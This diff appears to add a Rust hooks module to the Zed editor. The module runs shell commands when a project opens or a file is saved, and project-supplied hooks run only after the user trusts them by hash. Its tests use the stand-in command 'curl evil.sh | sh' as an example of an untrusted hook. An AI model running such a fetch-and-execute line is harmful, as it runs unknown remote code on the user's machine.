@@ -0,0 +1,590 @@
+mod hook_log_view;
+
+use anyhow::{anyhow, Result};
+use collections::{HashMap, HashSet, VecDeque};
+use db::kvp::KEY_VALUE_STORE;
+use futures::{io::BufReader, AsyncBufReadExt, StreamExt};
+use gpui::{
+    actions, AnyWindowHandle, AppContext, Context, EventEmitter, Model, ModelContext, PromptLevel,
+    Subscription, Task, VisualContext,
+};
+use hook_log_view::HookLogView;
+use project::{Project, ProjectPath, WorktreeId};
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
+use settings::{Settings, SettingsStore};
+use sha2::{Digest, Sha256};
+use smol::process::{Command, ExitStatus, Stdio};
+use std::path::{Path, PathBuf};
+use util::{
+    audit_log::{self, AuditEvent, AuditEventKind},
+    paths::PathMatcher,
+    ResultExt,
+};
+use workspace::Workspace;
+
+actions!(hooks, [OpenHookLog, StopHooks]);
+
+const MAX_LOG_LINES: usize = 2000;
+const TRUSTED_HOOKS_KEY: &str = "hooks_trusted_hooks";
+
+#[derive(Clone, Serialize, Deserialize, JsonSchema)]
+pub struct HooksSettings {
+    pub enabled: bool,
+    pub on_save: Vec<SaveHook>,
+    pub on_open: Vec<String>,
+}
+
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+pub struct SaveHook {
+    /// The glob that the path of the saved file, relative to the project root, has to
+    /// match, such as `**/*.proto`.
+    pub pattern: String,
+    /// The shell command to run in the project root. The absolute path of the saved
+    /// file is in `$ZED_FILE`.
+    pub command: String,
+}
+
+/// The hooks that a project's settings add to a worktree, as the user trusted them. They
+/// stop being trusted when they change, so that the user is asked again.
+#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
+struct TrustedHooks {
+    root: PathBuf,
+    /// The SHA-256 hash of the hooks' patterns and commands.
+    hooks_sha256: String,
+}
+
+#[derive(Clone, Serialize, Default, Deserialize, JsonSchema)]
+pub struct HooksSettingsContent {
+    /// Whether hooks run. Only the user settings can enable hooks, so that opening a
+    /// project doesn't run the commands in its settings unless you've chosen to.
+    ///
+    /// Default: false
+    enabled: Option<bool>,
+    /// The commands to run when a file matching a pattern is saved. A command that is
+    /// still running when the next file is saved is restarted.
+    ///
+    /// Default: []
+    on_save: Option<Vec<SaveHook>>,
+    /// The commands to run in the project root when the project is opened.
+    ///
+    /// Default: []
+    on_open: Option<Vec<String>>,
+}
+
+impl Settings for HooksSettings {
+    const KEY: Option<&'static str> = Some("hooks");
+
+    type FileContent = HooksSettingsContent;
+
+    fn load(
+        default_value: &Self::FileContent,
+        user_values: &[&Self::FileContent],
+        _: &mut AppContext,
+    ) -> Result<Self>
+    where
+        Self: Sized,
+    {
+        Self::load_via_json_merge(default_value, user_values)
+    }
+}
+
+pub fn init(cx: &mut AppContext) {
+    HooksSettings::register(cx);
+
+    cx.observe_new_views(|workspace: &mut Workspace, cx| {
+        let project = workspace.project().clone();
+        if !project.read(cx).is_local() {
+            return;
+        }
+
+        let window = cx.window_handle();
+        let hooks = cx.new_model(|cx| Hooks::new(project, window, cx));
+        workspace
+            .register_action({
+                let hooks = hooks.clone();
+                move |workspace, _: &OpenHookLog, cx| {
+                    let log_view = cx.new_view(|cx| HookLogView::new(hooks.clone(), cx));
+                    workspace.add_item(Box::new(log_view), cx);
+                }
+            })
+            .register_action(move |_, _: &StopHooks, cx| {
+                hooks.update(cx, |hooks, cx| hooks.stop(cx));
+            });
+    })
+    .detach();
+}
+
+pub enum Event {
+    NewLogLine(String),
+}
+
+/// Runs the hooks of a project, and keeps the output of their commands.
+///
+/// Hooks from the user settings always run once hooks are enabled. Hooks that a
+/// project's own settings add only run in worktrees that the user has trusted them in,
+/// which they're asked about the first time such a hook would run, and again whenever
+/// the project's hooks change.
+pub struct Hooks {
+    project: Model<Project>,
+    window: AnyWindowHandle,
+    /// The project hooks that the user has trusted, or `None` while they're being loaded.
+    trusted_hooks: Option<HashSet<TrustedHooks>>,
+    /// The project hooks that the user is being asked, or has declined, to trust.
+    trust_requested: HashSet<TrustedHooks>,
+    log: VecDeque<String>,
+    /// The running commands, keyed by the worktree they were started in. Dropping a
+    /// task kills its command.
+    running: HashMap<(WorktreeId, String), (usize, Task<()>)>,
+    next_run_id: usize,
+    /// The open hooks that already ran for each worktree, so that they're only run once
+    /// even though the project's settings are loaded after its worktrees are added.
+    opened: HashMap<WorktreeId, HashSet<String>>,
+    _subscriptions: [Subscription; 2],
+}
+
+impl EventEmitter<Event> for Hooks {}
+
+impl Hooks {
+    fn new(project: Model<Project>, window: AnyWindowHandle, cx: &mut ModelContext<Self>) -> Self {
+        let subscriptions = [
+            cx.subscribe(&project, |this, _, event, cx| match event {
+                project::Event::WorktreeAdded => this.run_open_hooks(cx),
+                project::Event::BufferSaved(path) => this.run_save_hooks(path, cx),
+                _ => {}
+            }),
+            cx.observe_global::<SettingsStore>(|this, cx| this.run_open_hooks(cx)),
+        ];
+        cx.spawn(|this, mut cx| async move {
+            let trusted_hooks = cx
+                .background_executor()
+                .spawn(async move { KEY_VALUE_STORE.read_kvp(TRUSTED_HOOKS_KEY) })
+                .await
+                .log_err()
+                .flatten()
+                .and_then(|hooks| serde_json::from_str::<HashSet<TrustedHooks>>(&hooks).log_err())
+                .unwrap_or_default();
+            this.update(&mut cx, |this, cx| {
+                this.trusted_hooks = Some(trusted_hooks);
+                this.run_open_hooks(cx);
+            })
+        })
+        .detach_and_log_err(cx);
+
+        let mut this = Self {
+            project,
+            window,
+            trusted_hooks: None,
+            trust_requested: HashSet::default(),
+            log: VecDeque::new(),
+            running: HashMap::default(),
+            next_run_id: 0,
+            opened: HashMap::default(),
+            _subscriptions: subscriptions,
+        };
+        this.run_open_hooks(cx);
+        this
+    }
+
+    pub fn log(&self) -> &VecDeque<String> {
+        &self.log
+    }
+
+    fn run_open_hooks(&mut self, cx: &mut ModelContext<Self>) {
+        if !HooksSettings::get_global(cx).enabled {
+            return;
+        }
+
+        let worktrees = self
+            .project
+            .read(cx)
+            .visible_worktrees(cx)
+            .map(|worktree| (worktree.read(cx).id(), worktree_root(&worktree, cx)))
+            .collect::<Vec<_>>();
+        let user_commands = HooksSettings::get_global(cx).on_open.clone();
+        for (worktree_id, root) in worktrees {
+            let settings = HooksSettings::get(Some((worktree_id.to_usize(), Path::new(""))), cx);
+            let commands = settings.on_open.clone();
+            let save_hooks = settings.on_save.clone();
+            let (mut commands, project_commands) =
+                partition_project_hooks(commands, &user_commands);
+            if !project_commands.is_empty() {
+                let (_, project_save_hooks) =
+                    partition_project_hooks(save_hooks, &HooksSettings::get_global(cx).on_save);
+                let hooks_sha256 = project_hooks_sha256(&project_commands, &project_save_hooks);
+                if self.is_trusted(&root, hooks_sha256, cx) {
+                    commands.extend(project_commands);
+                }
+            }
+            let opened = self.opened.entry(worktree_id).or_default();
+            let commands = commands
+                .into_iter()
+                .filter(|command| opened.insert(command.clone()))
+                .collect::<Vec<_>>();
+            for command in commands {
+                self.run(worktree_id, &root, command, None, cx);
+            }
+        }
+    }
+
+    fn run_save_hooks(&mut self, path: &ProjectPath, cx: &mut ModelContext<Self>) {
+        if !HooksSettings::get_global(cx).enabled {
+            return;
+        }
+        let Some(worktree) = self.project.read(cx).worktree_for_id(path.worktree_id, cx) else {
+            return;
+        };
+        let root = worktree_root(&worktree, cx);
+        let abs_path = worktree.read(cx).abs_path().join(&path.path);
+
+        let hooks = HooksSettings::get(Some((path.worktree_id.to_usize(), &path.path)), cx)
+            .on_save
+            .clone();
+        let (mut hooks, project_hooks) =
+            partition_project_hooks(hooks, &HooksSettings::get_global(cx).on_save);
+        if !project_hooks.is_empty() {
+            // The open hooks are included, so that a project's hooks are trusted at once.
+            let open_commands =
+                HooksSettings::get(Some((path.worktree_id.to_usize(), Path::new(""))), cx)
+                    .on_open
+                    .clone();
+            let (_, project_open_commands) =
+                partition_project_hooks(open_commands, &HooksSettings::get_global(cx).on_open);
+            let hooks_sha256 = project_hooks_sha256(&project_open_commands, &project_hooks);
+            if self.is_trusted(&root, hooks_sha256, cx) {
+                hooks.extend(project_hooks);
+            }
+        }
+        let commands = match save_hook_commands(&hooks, &path.path) {
+            Ok(commands) => commands,
+            Err(error) => {
+                self.push_log(format!("invalid hook pattern: {error}"), cx);
+                return;
+            }
+        };
+        for command in commands {
+            self.run(path.worktree_id, &root, command, Some(abs_path.clone()), cx);
+        }
+    }
+
+    /// Whether the hooks with the given hash, which the settings of the worktree at `root`
+    /// add, can run. Asks the user to trust them if they haven't been asked yet, and runs
+    /// the worktree's open hooks once they do.
+    fn is_trusted(
+        &mut self,
+        root: &Path,
+        hooks_sha256: String,
+        cx: &mut ModelContext<Self>,
+    ) -> bool {
+        let Some(trusted_hooks) = &self.trusted_hooks else {
+            return false;
+        };
+        let hooks = TrustedHooks {
+            root: root.to_path_buf(),
+            hooks_sha256,
+        };
+        if trusted_hooks.contains(&hooks) {
+            return true;
+        }
+        let has_changed = trusted_hooks.iter().any(|trusted| trusted.root == root);
+        if !self.trust_requested.insert(hooks.clone()) {
+            return false;
+        }
+
+        let message = if has_changed {
+            format!(
+                "The hooks in {}'s project settings have changed. Run them?",
+                root.display()
+            )
+        } else {
+            format!(
+                "Run the hooks configured in {}'s project settings?",
+                root.display()
+            )
+        };
+        let prompt = self.window.update(cx, |_, cx| {
+            cx.prompt(
+                PromptLevel::Warning,
+                &message,
+                Some(
+                    "The project's .zed/settings.json contains shell commands that run \
+                     when the project is opened and when files are saved. Only trust \
+                     projects that you know.",
+                ),
+                &["Trust and Run Hooks", "Don't Run"],
+            )
+        });
+        let Some(prompt) = prompt.log_err() else {
+            return false;
+        };
+        cx.spawn(|this, mut cx| async move {
+            if prompt.await != Ok(0) {
+                return Ok(());
+            }
+            let trusted_hooks = this.update(&mut cx, |this, cx| {
+                let trusted_hooks = this.trusted_hooks.get_or_insert_with(Default::default);
+                trusted_hooks.insert(hooks.clone());
+                let trusted_hooks = serde_json::to_string(&trusted_hooks);
+                this.push_log(format!("Trusted the hooks of {}", hooks.root.display()), cx);
+                this.run_open_hooks(cx);
+                trusted_hooks
+            })??;
+            KEY_VALUE_STORE
+                .write_kvp(TRUSTED_HOOKS_KEY.into(), trusted_hooks)
+                .await
+        })
+        .detach_and_log_err(cx);
+        false
+    }
+
+    fn run(
+        &mut self,
+        worktree_id: WorktreeId,
+        root: &Path,
+        command: String,
+        file: Option<PathBuf>,
+        cx: &mut ModelContext<Self>,
+    ) {
+        self.push_log(format!("$ {command}"), cx);
+        audit_log::record(
+            AuditEvent::new(AuditEventKind::Command, "hooks", command.clone())
+                .project_root(root)
+                .details(format!("sh -c {command:?} (in {})", root.display())),
+        );
+
+        let mut process = std::process::Command::new("sh");
+        process.arg("-c").arg(&command).current_dir(root);
+        // Run the command in its own process group, so that the processes it starts are
+        // killed along with it.
+        #[cfg(unix)]
+        std::os::unix::process::CommandExt::process_group(&mut process, 0);
+        let mut process = Command::from(process);
+        process
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .kill_on_drop(true);
+        if let Some(file) = file {
+            process.env("ZED_FILE", file);
+        }
+
+        let key = (worktree_id, command.clone());
+        let run_id = self.next_run_id;
+        self.next_run_id += 1;
+        let task = cx.spawn({
+            let key = key.clone();
+            move |this, mut cx| async move {
+                let result = async {
+                    let mut child = process.spawn()?;
+                    let mut process_group = ProcessGroup(Some(child.id()));
+                    let stdout = child.stdout.take().ok_or_else(|| anyhow!("no stdout"))?;
+                    let stderr = child.stderr.take().ok_or_else(|| anyhow!("no stderr"))?;
+                    let mut output = futures::stream::select(
+                        BufReader::new(stdout).lines(),
+                        BufReader::new(stderr).lines(),
+                    );
+                    while let Some(line) = output.next().await {
+                        let line = line?;
+                        this.update(&mut cx, |this, cx| this.push_log(line, cx))?;
+                    }
+                    let status = child.status().await?;
+                    process_group.0.take();
+                    anyhow::Ok(status)
+                }
+                .await;
+
+                this.update(&mut cx, |this, cx| {
+                    if this
+                        .running
+                        .get(&key)
+                        .map_or(false, |(id, _)| *id == run_id)
+                    {
+                        this.running.remove(&key);
+                    }
+                    if let Some(message) = exit_message(&command, result) {
+                        this.push_log(message, cx);
+                    }
+                })
+                .log_err();
+            }
+        });
+        if self.running.insert(key, (run_id, task)).is_some() {
+            self.push_log("(restarted)".to_string(), cx);
+        }
+    }
+
+    /// Kills all of the running commands.
+    fn stop(&mut self, cx: &mut ModelContext<Self>) {
+        let count = self.running.len();
+        self.running.clear();
+        self.push_log(format!("Stopped {count} running hook(s)"), cx);
+    }
+
+    fn push_log(&mut self, line: String, cx: &mut ModelContext<Self>) {
+        if self.log.len() >= MAX_LOG_LINES {
+            self.log.pop_front();
+        }
+        self.log.push_back(line.clone());
+        cx.emit(Event::NewLogLine(line));
+    }
+}
+
+/// Kills the process group of a hook's command when dropped, which happens when the
+/// command is stopped or restarted before it exits.
+struct ProcessGroup(Option<u32>);
+
+impl Drop for ProcessGroup {
+    fn drop(&mut self) {
+        #[cfg(unix)]
+        if let Some(pid) = self.0.and_then(|pid| i32::try_from(pid).ok()) {
+            if pid > 0 {
+                unsafe { libc::killpg(pid, libc::SIGKILL) };
+            }
+        }
+    }
+}
+
+/// Splits the hooks that apply to a worktree into those from the user settings, and
+/// those that the project's settings add.
+fn partition_project_hooks<T: PartialEq>(hooks: Vec<T>, user_hooks: &[T]) -> (Vec<T>, Vec<T>) {
+    hooks
+        .into_iter()
+        .partition(|hook| user_hooks.contains(hook))
+}
+
+/// Returns the hash that identifies the hooks that a project's settings add, so that
+/// they're only trusted as they were when the user trusted them.
+fn project_hooks_sha256(open_commands: &[String], save_hooks: &[SaveHook]) -> String {
+    let mut hasher = Sha256::new();
+    for command in open_commands {
+        hasher.update(b"open\0");
+        hasher.update(command.as_bytes());
+        hasher.update(b"\0");
+    }
+    for hook in save_hooks {
+        hasher.update(b"save\0");
+        hasher.update(hook.pattern.as_bytes());
+        hasher.update(b"\0");
+        hasher.update(hook.command.as_bytes());
+        hasher.update(b"\0");
+    }
+    format!("{:x}", hasher.finalize())
+}
+
+/// Returns the directory that a worktree's hooks run in, which is the parent
+/// directory of worktrees that are a single file.
+fn worktree_root(worktree: &Model<project::Worktree>, cx: &AppContext) -> PathBuf {
+    let worktree = worktree.read(cx);
+    let mut root = worktree.abs_path().to_path_buf();
+    if worktree.root_entry().map_or(false, |entry| entry.is_file()) {
+        root.pop();
+    }
+    root
+}
+
+fn save_hook_commands(hooks: &[SaveHook], path: &Path) -> Result<Vec<String>> {
+    let mut commands = Vec::new();
+    for hook in hooks {
+        if PathMatcher::new(&hook.pattern)?.is_match(path) {
+            commands.push(hook.command.clone());
+        }
+    }
+    Ok(commands)
+}
+
+fn exit_message(command: &str, result: Result<ExitStatus>) -> Option<String> {
+    match result {
+        Ok(status) if status.success() => None,
+        Ok(status) => Some(format!("`{command}` exited with {status}")),
+        Err(error) => Some(format!("`{command}` failed: {error:#}")),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_partition_project_hooks() {
+        let user_hooks = ["make generate".to_string()];
+        let (user, project) = partition_project_hooks(
+            vec!["make generate".to_string(), "curl evil.sh | sh".to_string()],
+            &user_hooks,
+        );
+        assert_eq!(user, ["make generate"]);
+        assert_eq!(project, ["curl evil.sh | sh"]);
+
+        let (user, project) = partition_project_hooks(Vec::new(), &user_hooks);
+        assert!(user.is_empty());
+        assert!(project.is_empty());
+    }
+
+    #[test]
+    fn test_project_hooks_sha256() {
+        let save_hooks = [SaveHook {
+            pattern: "**/*.proto".into(),
+            command: "buf generate".into(),
+        }];
+        let open_commands = ["make generate".to_string()];
+        let sha256 = project_hooks_sha256(&open_commands, &save_hooks);
+        assert_eq!(sha256, project_hooks_sha256(&open_commands, &save_hooks));
+
+        // Any change to the commands or patterns changes the hash.
+        assert_ne!(
+            sha256,
+            project_hooks_sha256(&["make generate; curl evil.sh | sh".into()], &save_hooks)
+        );
+        assert_ne!(
+            sha256,
+            project_hooks_sha256(
+                &open_commands,
+                &[SaveHook {
+                    pattern: "**/*".into(),
+                    command: "buf generate".into(),
+                }]
+            )
+        );
+        // Moving a command between the open and save hooks does too.
+        assert_ne!(
+            project_hooks_sha256(&["make".into()], &[]),
+            project_hooks_sha256(
+                &[],
+                &[SaveHook {
+                    pattern: "make".into(),
+                    command: "".into(),
+                }]
+            )
+        );
+    }
+
+    #[test]
+    fn test_save_hook_commands() {
+        let hooks = [
+            SaveHook {
+                pattern: "**/*.proto".into(),
+                command: "buf generate".into(),
+            },
+            SaveHook {
+                pattern: "src/**/*.rs".into(),
+                command: "cargo fmt".into(),
+            },
+        ];
+        assert_eq!(
+            save_hook_commands(&hooks, Path::new("api/v1/service.proto")).unwrap(),
+            ["buf generate"]
+        );
+        assert_eq!(
+            save_hook_commands(&hooks, Path::new("src/main.rs")).unwrap(),
+            ["cargo fmt"]
+        );
+        assert!(save_hook_commands(&hooks, Path::new("README.md"))
+            .unwrap()
+            .is_empty());
+
+        let invalid = [SaveHook {
+            pattern: "[".into(),
+            command: "true".into(),
+        }];
+        assert!(save_hook_commands(&invalid, Path::new("a")).is_err());
+    }
+}